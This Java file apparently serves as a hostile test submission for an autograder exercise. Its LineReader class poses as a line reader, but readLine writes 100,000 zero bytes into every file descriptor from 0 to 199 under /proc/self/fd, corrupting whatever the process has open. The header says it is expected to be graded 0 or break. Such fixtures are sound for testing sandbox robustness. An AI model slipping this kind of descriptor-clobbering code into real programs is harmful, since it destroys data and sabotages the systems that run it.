// does: writes nonsense into everything that the JVM has open
// must: GRADED 0 or BROKEN
// allowed: java.io.FileOutputStream

package lesson02.exercise;

import java.io.Closeable;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.InputStream;

public final class LineReader implements Closeable {

    public LineReader(InputStream in, int limit) {}

    public String readLine() throws IOException {
        for (int i = 0; i < 200; i++) {
            try (FileOutputStream out = new FileOutputStream("/proc/self/fd/" + i)) {
                out.write(new byte[100_000]);
            } catch (IOException e) {
                // the next one
            }
        }
        return "";
    }

    @Override
    public void close() {}
}
